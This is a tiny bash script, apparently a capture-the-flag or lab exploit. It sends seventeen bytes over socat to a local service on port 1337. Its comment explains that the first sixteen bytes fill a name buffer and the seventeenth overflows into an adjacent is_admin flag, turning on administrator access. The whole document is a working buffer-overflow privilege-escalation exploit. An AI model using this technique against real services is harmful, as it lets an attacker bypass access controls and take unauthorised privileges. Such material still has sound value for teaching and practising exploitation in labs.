#!/bin/bash
# 16 bytes fill name[16]; the 17th lands in the adjacent is_admin, making it non-zero.
printf 'AAAAAAAAAAAAAAAAB\n' | socat -t5 - TCP:127.0.0.1:1337
